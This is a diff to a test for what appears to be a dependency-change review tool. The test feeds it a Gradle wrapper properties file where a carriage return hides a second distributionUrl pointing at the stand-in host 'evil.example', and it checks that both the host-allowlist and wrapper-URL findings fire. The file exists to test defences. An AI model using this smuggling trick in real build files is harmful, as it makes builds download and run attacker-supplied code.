@@ -21,6 +21,7 @@ test('attack: a distributionUrl after a lone carriage return is the one the wrap
   const base = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\n';
   const head = 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\rdistributionUrl=https\\://evil.example/gradle.zip\n';
   const f = reviewDependencyChange('gradle/wrapper/gradle-wrapper.properties', base, head, ['services.gradle.org']);
-  expect(f.map((x) => x.code)).toEqual(['wrapper_distribution_url']);
-  expect(f[0]!.message).toContain('host "evil.example" is not in the network allow list');
+  // The source rule denies the host; the file's own rule says what the setting is.
+  expect(f.map((x) => x.code)).toEqual(['dependency_host_not_allowed', 'wrapper_distribution_url']);
+  expect(f.find((x) => x.code === 'wrapper_distribution_url')!.message).toContain('host "evil.example" is not in the network allow list');
 });
